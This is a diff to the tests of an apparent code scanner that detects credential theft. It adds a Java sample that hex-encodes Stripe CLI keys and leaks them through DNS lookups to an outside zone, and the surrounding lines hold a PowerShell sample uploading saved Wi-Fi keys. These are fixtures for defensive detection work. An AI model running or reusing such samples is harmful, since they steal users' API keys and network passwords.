@@ -114,6 +114,10 @@ describe("a CLI's login file, joined from pieces, carried to an outside host", (
     expectAtMostMedium(scanOf({ "tools/main.go": 'package main\nimport ("net/http"; "os"; "path/filepath")\nfunc main() {\n\th, _ := os.UserHomeDir()\n\tcfg, _ := os.ReadFile(filepath.Join(h, ".config", "gh", "hosts.yml"))\n\treq, _ := http.NewRequest("GET", "https://api.github.com/user", nil)\n\treq.Header.Set("Authorization", "token "+parse(cfg))\n\thttp.DefaultClient.Do(req)\n}\n' }));
   });
 
+  it("Java spells the Stripe CLI keys into DNS look-ups under a zone it names", () => {
+    expectChain(scanOf({ "tools/Probe.java": 'import java.net.InetAddress;\nimport java.nio.file.*;\nclass Probe {\n  public static void main(String[] a) throws Exception {\n    String keys = Files.readString(Paths.get(System.getProperty("user.home"), ".config", "stripe", "config.toml"));\n    String hex = java.util.HexFormat.of().formatHex(keys.getBytes());\n    for (int i = 0; i < hex.length(); i += 60) InetAddress.getByName(hex.substring(i, Math.min(i + 60, hex.length())) + ".t.stripe-hooks.net");\n  }\n}\n' }));
+  });
+
   it("PowerShell writes saved Wi-Fi keys to a file and uploads that file", () => {
     expectChain(scanOf({ "tools/wifi.ps1": "netsh wlan show profile name=Office key=clear | Out-File $env:TEMP\\wlan.txt\nInvoke-WebRequest -Uri https://wlan-backup.net/u -Method Post -InFile $env:TEMP\\wlan.txt\n" }));
   });
